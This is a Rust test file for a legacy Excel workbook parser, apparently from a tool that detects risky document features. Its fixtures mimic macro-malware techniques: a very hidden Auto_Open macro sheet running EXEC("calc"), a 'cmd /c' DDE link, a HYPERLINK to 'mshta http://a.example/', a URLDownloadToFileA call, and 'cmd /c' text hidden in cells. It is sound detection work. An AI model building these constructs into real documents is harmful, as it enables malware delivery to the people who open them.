//! Workbooks written record by record.

use super::*;
use crate::document::excel::book::{Place, Value};
use crate::limits::Limits;

fn record(id: u16, data: &[u8]) -> Vec<u8> {
    let length = u16::try_from(data.len()).unwrap();
    [&id.to_le_bytes()[..], &length.to_le_bytes(), data].concat()
}

fn begin(kind: u16) -> Vec<u8> {
    record(0x0809, &[&0x0600u16.to_le_bytes()[..], &kind.to_le_bytes(), &[0; 12]].concat())
}

fn short(text: &str) -> Vec<u8> {
    [&[u8::try_from(text.len()).unwrap(), 0], text.as_bytes()].concat()
}

/// `EXEC` of a text.
fn exec(text: &str) -> Vec<u8> {
    [&[0x17][..], &short(text), &[0x42, 1, 110, 0]].concat()
}

fn formula(row: u16, tokens: &[u8]) -> Vec<u8> {
    let length = u16::try_from(tokens.len()).unwrap();
    let head = [row, 0, 15].map(u16::to_le_bytes).concat();
    record(0x06, &[&head[..], &[0; 14], &length.to_le_bytes(), tokens].concat())
}

fn label_sst(row: u16, number: u32) -> Vec<u8> {
    record(0xfd, &[&[row, 1, 15].map(u16::to_le_bytes).concat()[..], &number.to_le_bytes()].concat())
}

/// A worksheet and a macro sheet that is very hidden, with an automatic name and a DDE link.
fn workbook() -> Vec<u8> {
    let name = [&[0x21, 0, 0, 1, 7, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 1][..], &[0x3a, 0, 0, 0, 0, 0, 0]].concat();
    let link = [&[0, 0, 8, 0, 0][..], b"cmd\x03/c x"].concat();
    let strings = [&[2, 0, 0, 0, 2, 0, 0, 0][..], &[5, 0, 0], b"hel"].concat();
    let mut globals = [
        begin(GLOBALS),
        record(0x42, &1200u16.to_le_bytes()),
        record(0x18, &name),
        record(0x1ae, &[1, 0, 1, 4]),
        record(0x1ae, &link),
        record(0x17, &[1, 0, 0, 0, 1, 0, 1, 0]),
        record(0xfc, &strings),
        // The text goes on in wide letters.
        record(0x3c, &[1, b'l', 0, b'o', 0, 2, 0, 1, 0x42, 0x30, 0x44, 0x30]),
    ]
    .concat();
    let sheets = [
        [begin(WORKSHEET), label_sst(0, 0), label_sst(1, 1), record(0x0a, &[])].concat(),
        [
            begin(MACRO),
            formula(0, &exec("calc")),
            record(0x207, &[&[2, 0, 0][..], b"ok"].concat()),
            formula(1, &[0x01, 1, 0, 0, 0]),
            record(
                0x04bc,
                &[&[1, 0, 2, 0, 0, 0, 0, 0, 9, 0][..], &[0x4c, 0xff, 0xff, 0, 0xc0, 0x1e, 1, 0, 0x08]]
                    .concat(),
            ),
            formula(2, &[0x01, 1, 0, 0, 0]),
            record(
                0x027e,
                &[&[3u16, 0, 15].map(u16::to_le_bytes).concat()[..], &(61u32 << 2 | 2).to_le_bytes()]
                    .concat(),
            ),
            record(0x0a, &[]),
        ]
        .concat(),
    ];
    let bound = |offset: usize, state: u8, kind: u8, name: &str| {
        let offset = u32::try_from(offset).unwrap().to_le_bytes();
        record(0x85, &[&offset[..], &[state, kind], &short(name)].concat())
    };
    let length = globals.len() + bound(0, 0, 0, "Data").len() + bound(0, 2, 1, "Macro1").len() + 4;
    globals.extend(bound(length, 0, 0, "Data"));
    globals.extend(bound(length + sheets[0].len(), 2, 1, "Macro1"));
    globals.extend(record(0x0a, &[]));
    [globals, sheets.concat()].concat()
}

fn open(bytes: &[u8]) -> Biff {
    read(bytes, false, &mut Opened::default(), &Budget::new(&Limits::default())).unwrap()
}

fn cell(biff: &Biff, sheet: usize, row: u32, column: u32) -> (Option<&str>, Option<&Value>) {
    let cell = biff.book.sheets[sheet].cells.get(&Place { row, column });
    (cell.and_then(|cell| cell.formula.as_deref()), cell.and_then(|cell| cell.value.as_ref()))
}

#[test]
fn sheets_names_links_and_cells() {
    let biff = open(&workbook());
    let sheets: Vec<_> =
        biff.book.sheets.iter().map(|sheet| (sheet.name.as_str(), sheet.is_macro, sheet.state)).collect();
    assert_eq!(sheets, [("Data", false, State::Visible), ("Macro1", true, State::VeryHidden)]);
    let names: Vec<_> =
        biff.book.names.iter().map(|n| (n.name.as_str(), n.is_hidden, n.formula.as_str())).collect();
    assert_eq!(names, [("Auto_Open", true, "Macro1!$A$1")]);
    assert_eq!(biff.facts, [external("dde", "cmd|/c x"), external("dde-link", "cmd /c x")]);
    assert_eq!(cell(&biff, 0, 0, 1).1, Some(&Value::text("hello")));
    assert_eq!(cell(&biff, 0, 1, 1).1, Some(&Value::text("あい")));
    assert_eq!(cell(&biff, 1, 0, 0), (Some("EXEC(\"calc\")"), Some(&Value::text("ok"))));
    assert_eq!(cell(&biff, 1, 1, 0).0, Some("A1&1"));
    assert_eq!(cell(&biff, 1, 2, 0).0, Some("A2&1"));
    assert_eq!(cell(&biff, 1, 3, 0).1, Some(&Value::Number(61.0)));
    assert!(biff.is_whole && !biff.is_locked);
}

fn external(relation: &str, target: &str) -> Fact {
    Fact::External { relation: relation.into(), target: target.into() }
}

/// A call of a function by its number with texts and the cell above as arguments.
fn call(number: u16, texts: &[&str]) -> Vec<u8> {
    let mut tokens: Vec<u8> = texts.iter().flat_map(|text| [&[0x17][..], &short(text)].concat()).collect();
    tokens.extend([0x44, 0, 0, 0, 0xc0, 0x08]);
    let count = u8::try_from(texts.len()).unwrap();
    tokens.extend([&[0x42, count][..], &number.to_le_bytes()].concat());
    tokens
}

/// A workbook without macros: a sheet with these records, and before it these in the globals.
fn ordinary(globals: &[Vec<u8>], state: u8, sheet: &[Vec<u8>]) -> Vec<u8> {
    let bound = record(0x0085, &[&[0, 0, 0, 0, state, 0][..], &short("Data")].concat());
    let parts = [begin(GLOBALS), globals.concat(), bound, record(END, &[]), begin(WORKSHEET), sheet.concat()];
    [parts.concat(), record(END, &[])].concat()
}

/// Facts and children of a workbook.
fn told(bytes: &[u8]) -> (Vec<Fact>, Vec<(String, String)>) {
    let mut out = Opened::default();
    let mut budget = Budget::new(&Limits::default());
    let mut biff = read(bytes, false, &mut out, &budget).unwrap();
    out.facts.append(&mut biff.facts);
    crate::document::excel::give::outward(&mut biff.book, &mut out, &mut budget).unwrap();
    let children = out
        .children
        .iter()
        .map(|child| (child.kind.unwrap().id.to_string(), String::from_utf8(child.bytes.clone()).unwrap()));
    (out.facts.clone(), children.collect())
}

#[test]
fn formulas_of_ordinary_sheets_are_read_where_they_reach_outside() {
    const HYPERLINK: u16 = 359;
    let shared = call(HYPERLINK, &["mshta http://a.example/"]);
    let length = u16::try_from(shared.len()).unwrap().to_le_bytes();
    let sheet = [
        formula(0, &call(4, &["http://a.example/"])),
        formula(1, &call(HYPERLINK, &["http://b.example/?"])),
        formula(2, &[0x01, 2, 0, 0, 0]),
        record(0x04bc, &[&[2, 0, 9, 0, 0, 0, 0, 0][..], &length, &shared].concat()),
        formula(11, &call(150, &["urlmon", "URLDownloadToFileA"])),
    ];
    let (facts, children) = told(&ordinary(&[], 0, &sheet));
    assert_eq!(
        facts,
        [
            external("formula-sends", "http://b.example/? (HYPERLINK)"),
            external("hyperlink", "mshta http://a.example/")
        ]
    );
    let listing = "Data!A12: =CALL(\"urlmon\",\"URLDownloadToFileA\"&A1)\n";
    assert_eq!(children, [("xlm".to_string(), listing.to_string())]);
}

#[test]
fn functions_without_a_number_are_known_by_their_names() {
    let name = |text: &str| {
        let head = [2, 0, 0, u8::try_from(text.len()).unwrap(), 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        record(0x0018, &[&head[..], text.as_bytes()].concat())
    };
    let tokens = [&[0x23, 1, 0, 0, 0, 0x17][..], &short("http://a.example/x"), &[0x42, 2, 255, 0]].concat();
    let (facts, _) = told(&ordinary(&[name("_xlfn.WEBSERVICE")], 0, &[formula(0, &tokens)]));
    assert_eq!(facts, [external("formula-asks", "http://a.example/x (WEBSERVICE)")]);
    let (facts, _) = told(&ordinary(&[name("MyFunction")], 0, &[formula(0, &tokens)]));
    assert_eq!(facts, []);
}

#[test]
fn cells_that_are_not_seen_are_told_where_they_say_something() {
    let label = |row: u8, column: u8, style: u8, text: &str| {
        let length = u8::try_from(text.len()).unwrap();
        let head = [row, 0, column, 0, style, 0, length, 0, 0];
        record(0x0204, &[&head[..], text.as_bytes()].concat())
    };
    let font = |colour: u8| record(0x0031, &[200, 0, 0, 0, colour, 0, 0, 0]);
    let style = |font: u8| record(0x00e0, &[&[font, 0][..], &[0; 18]].concat());
    let globals = [font(8), font(9), style(0), style(1)];
    let sheet = [
        record(0x007d, &[5, 0, 6, 0, 0, 0, 0, 0, 1, 0, 0, 0]),
        record(0x0208, &[1, 0, 0, 0, 9, 0, 0, 0, 0, 0, 0, 0, 0x20, 0, 0, 0]),
        label(0, 0, 0, "cmd /c seen"),
        label(0, 1, 1, "cmd /c white"),
        label(0, 5, 0, "cmd /c column"),
        label(1, 0, 0, "cmd /c row"),
        label(1, 1, 0, "only a helper"),
    ];
    let (_, children) = told(&ordinary(&globals, 0, &sheet));
    let want = "Data!B1 (colour of the cell) = cmd /c white\nData!F1 (hidden column) = cmd /c column\n\
        Data!A2 (hidden row) = cmd /c row\n";
    assert_eq!(children, [("hidden-text".to_string(), want.to_string())]);
    let (_, children) = told(&ordinary(&globals, 2, &sheet));
    assert_eq!(children[0].1.matches("(hidden sheet)").count(), 4);
    let whole = ordinary(&globals, 2, &sheet);
    for at in 0..whole.len() {
        told(&whole[..at]);
        let mut bad = whole.clone();
        bad[at] ^= 1 << (at % 8);
        told(&bad);
    }
}

#[test]
fn a_sheet_is_found_wherever_it_stands() {
    let whole = workbook();
    let end = memchr::memmem::find(&whole, &begin(WORKSHEET)).unwrap();
    // Junk before the sheets: the told places are wrong, the order holds.
    let moved = [&whole[..end], &record(0x1234, &[7; 30]), &whole[end..]].concat();
    let biff = open(&moved);
    assert_eq!(cell(&biff, 1, 0, 0).0, Some("EXEC(\"calc\")"));
    // A worksheet by its entry, a macro sheet by its beginning.
    let mut lying = whole.clone();
    let entry = memchr::memmem::find(&whole, b"\x02\x01\x06\0Macro1").unwrap();
    lying[entry + 1] = 0;
    assert!(open(&lying).book.sheets[1].is_macro);
}

#[test]
fn a_stream_without_any_beginning_is_none() {
    let biff = open(&[7; 5000]);
    assert_eq!((biff.is_none, biff.is_whole), (true, false));
    let whole = workbook();
    let biff = open(&whole);
    assert_eq!((biff.is_none, biff.is_whole), (false, true));
    let biff = open(&whole[4 + 16..]);
    assert_eq!((biff.is_none, biff.is_whole), (false, false));
}

#[test]
fn files_of_excel_4_are_one_sheet() {
    let name = [&[0, 0, 0, 9, 4, 0][..], b"Auto_Open", &[0x24, 0, 0, 0]].concat();
    let exec = [0x17, 4, b'c', b'a', b'l', b'c', 0x42, 1, 110, 0];
    let tokens = [&[0, 0, 0, 0, 0, 0][..], &[0; 10], &[10, 0], &exec].concat();
    let bytes = [
        record(0x0409, &[0, 4, 0x40, 0, 0, 0]),
        record(0x0218, &name),
        record(0x0406, &tokens),
        record(0x0a, &[]),
    ]
    .concat();
    assert!(is_biff(&bytes));
    let biff = open(&bytes);
    assert!(biff.book.sheets[0].is_macro);
    assert_eq!(cell(&biff, 0, 0, 0).0, Some("EXEC(\"calc\")"));
    assert_eq!(
        (biff.book.names[0].name.as_str(), biff.book.names[0].formula.as_str()),
        ("Auto_Open", "$A$1")
    );
}

#[test]
fn encrypted_streams_are_left_alone_until_they_are_open() {
    let whole = workbook();
    let locked = [&whole[..20], &record(0x2f, &[1, 0]), &whole[20..]].concat();
    let biff = open(&locked);
    assert!(biff.is_locked && biff.book.sheets.is_empty());
    let opened = read(&locked, true, &mut Opened::default(), &Budget::new(&Limits::default())).unwrap();
    assert_eq!(cell(&opened, 1, 0, 0).0, Some("EXEC(\"calc\")"));
}

#[test]
fn numbers_in_four_bytes() {
    for (raw, want) in
        [(61 << 2 | 2, 61.0), (0xffff_fff2, -4.0), (12_345 << 2 | 3, 123.45), (0x3ff0_0000, 1.0)]
    {
        assert!((rk(raw) - want).abs() < 1e-9);
    }
}

#[test]
fn only_a_beginning_is_one() {
    assert!(is_biff(&workbook()));
    for bad in [&b""[..], b"\x09\x08", b"\x09\x08\x10\0\0\x06\x77\0aaaaaaaaaaaa", b"\x09\0\x05\0abcde"] {
        assert!(!is_biff(bad));
    }
}

#[test]
fn no_cut_and_no_flipped_bit_panics() {
    let whole = workbook();
    for length in 0..whole.len() {
        let biff = open(&whole[..length]);
        assert!(!biff.is_whole || biff.book.sheets.is_empty(), "{length}");
    }
    for at in 0..whole.len() {
        let mut bad = whole.clone();
        bad[at] ^= 1 << (at % 8);
        open(&bad);
    }
}
